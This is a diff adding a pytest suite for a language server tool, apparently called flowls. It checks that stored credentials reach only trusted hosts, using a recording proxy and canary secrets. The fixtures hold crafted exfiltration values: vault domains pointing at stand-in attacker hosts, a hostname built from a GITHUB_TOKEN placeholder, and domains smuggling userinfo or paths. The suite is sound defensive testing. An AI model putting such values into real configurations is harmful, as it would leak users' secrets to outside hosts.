@@ -1,0 +1,142 @@
+"""Issue 12: credentials go only to hosts the user trusts. The canary is an environment
+variable of the server process; a recording proxy (HTTPS_PROXY) sees every host flowls tries
+to reach, so "nothing was sent" is observed."""
+
+import json
+import subprocess
+
+import pytest
+from lsprotocol import types as t
+
+from conftest import BIN, start
+from recording_proxy import RecordingProxy
+from test_tenant import VAULT
+
+CANARY = "canary-AKIA-5f3e9c1d7b"
+
+
+def vault(ws, domain, secret="##AWS_SECRET_ACCESS_KEY##"):
+    (ws / VAULT).write_text(json.dumps({
+        "name": "Users M2M", "app_id": "AUTH0",
+        "setup": {"type": "OAUTH_APP", "client_id": "Flows M2M", "client_secret": secret, "domain": domain},
+    }, indent=2))
+
+
+@pytest.fixture
+def proxy():
+    p = RecordingProxy()
+    yield p
+    p.close()
+
+
+def env(proxy):
+    return {"AWS_SECRET_ACCESS_KEY": CANARY, "GITHUB_TOKEN": CANARY + "gh", "HTTPS_PROXY": proxy.url,
+            "HTTP_PROXY": proxy.url, "NO_PROXY": "", "RUST_LOG": "trace"}
+
+
+async def session(workspace, proxy, answer, settings=None):
+    s = await start("vscode", workspace, init_options={"testConnection": {"timeoutSeconds": 3, **(settings or {})}}, env=env(proxy))
+    s.asked = []
+
+    @s.client.feature(t.WINDOW_SHOW_MESSAGE_REQUEST)
+    def _ask(params: t.ShowMessageRequestParams):
+        s.asked.append(params)
+        return None if answer is None else t.MessageActionItem(title=answer)
+
+    await s.indexed()
+    return s
+
+
+async def run_test_connection(s):
+    return await s.client.workspace_execute_command_async(
+        t.ExecuteCommandParams(command="flowls.testConnection", arguments=[{"uri": s.uri(VAULT)}]))
+
+
+@pytest.mark.parametrize("answer", ["Cancel", None])
+async def test_an_untrusted_host_gets_nothing_unless_the_user_says_send(workspace, proxy, answer):
+    vault(workspace, "collector.attacker.example")
+    s = await session(workspace, proxy, answer)
+    try:
+        r = await run_test_connection(s)
+        assert r["ok"] is False and r["error"] == "cancelled", r
+        assert proxy.hosts == []
+        [asked] = s.asked
+        assert asked.type == t.MessageType.Warning
+        assert "collector.attacker.example" in asked.message and "AWS_SECRET_ACCESS_KEY" in asked.message
+        assert [a.title for a in asked.actions] == ["Send", "Cancel"]
+        assert CANARY not in json.dumps(r) + asked.message
+    finally:
+        await s.client.shutdown_session()
+        await s.client.stop()
+
+
+async def test_after_send_the_request_goes_out(workspace, proxy):
+    vault(workspace, "login.example.com")
+    s = await session(workspace, proxy, "Send")
+    try:
+        r = await run_test_connection(s)
+        assert r["ok"] is False, r  # the proxy refuses, but the attempt was made
+        assert proxy.hosts == ["login.example.com:443"], proxy.hosts
+        assert CANARY not in json.dumps(r)
+    finally:
+        await s.client.shutdown_session()
+        await s.client.stop()
+
+
+async def test_a_host_built_from_the_environment_is_never_shown_nor_resolved(workspace, proxy):
+    vault(workspace, "##GITHUB_TOKEN##.attacker.example")
+    s = await session(workspace, proxy, "Cancel")
+    try:
+        r = await run_test_connection(s)
+        assert r["error"] == "cancelled" and proxy.hosts == []
+        [asked] = s.asked
+        assert "##GITHUB_TOKEN##.attacker.example (environment)" in asked.message, asked.message
+        assert "GITHUB_TOKEN" in asked.message and CANARY not in asked.message + json.dumps(r)
+    finally:
+        await s.client.shutdown_session()
+        await s.client.stop()
+
+
+@pytest.mark.parametrize("domain", ["user:pw@127.0.0.1:9101", "127.0.0.1:9101/evil?x=", "[::1]@evil.example",
+                                    "10.1.2.3", "evil.example:8443", "https://x.auth0.com", "x.auth0.com/p"])
+async def test_a_domain_that_is_not_a_bare_host_sends_nothing(workspace, proxy, domain):
+    vault(workspace, domain)
+    s = await session(workspace, proxy, "Send", settings={"allowHttpLoopback": True})
+    try:
+        diags = await s.diagnostics(s.uri(VAULT), until=lambda d: any(x.code == "vault-setup" for x in d))
+        assert any(x.code == "vault-setup" for x in diags)
+        r = await run_test_connection(s)
+        assert r["error"] == "invalid_setup", r
+        assert proxy.hosts == [] and s.asked == []
+    finally:
+        await s.client.shutdown_session()
+        await s.client.stop()
+
+
+async def test_trusted_hosts_are_reached_without_asking(workspace, proxy):
+    for domain, settings, expect in [("my-tenant.us.auth0.com", {}, "my-tenant.us.auth0.com:443"),
+                                     ("login.example.com", {"trustedHosts": ["*.example.com"]}, "login.example.com:443")]:
+        vault(workspace, domain)
+        proxy.hosts.clear()
+        s = await session(workspace, proxy, "Cancel", settings=settings)
+        try:
+            r = await run_test_connection(s)
+            assert proxy.hosts == [expect], (domain, proxy.hosts)
+            assert s.asked == [] and CANARY not in json.dumps(r)
+        finally:
+            await s.client.shutdown_session()
+            await s.client.stop()
+
+
+def test_the_cli_refuses_an_untrusted_host_unless_named(workspace, proxy):
+    vault(workspace, "collector.attacker.example")
+    e = {**__import__("os").environ, **env(proxy)}
+    p = subprocess.run([BIN, "test-connection", str(workspace / VAULT), "--timeout-seconds", "3"], env=e,
+                       capture_output=True, text=True, timeout=30)
+    assert p.returncode == 2, p.stdout + p.stderr
+    assert "untrusted_host" in p.stdout or "not a trusted host" in p.stdout, p.stdout
+    assert proxy.hosts == [] and CANARY not in p.stdout + p.stderr
+    p = subprocess.run([BIN, "test-connection", str(workspace / VAULT), "--timeout-seconds", "3",
+                        "--trust-host", "collector.attacker.example"], env=e, capture_output=True, text=True, timeout=30)
+    assert proxy.hosts == ["collector.attacker.example:443"], (proxy.hosts, p.stdout)
+    assert CANARY not in p.stdout + p.stderr
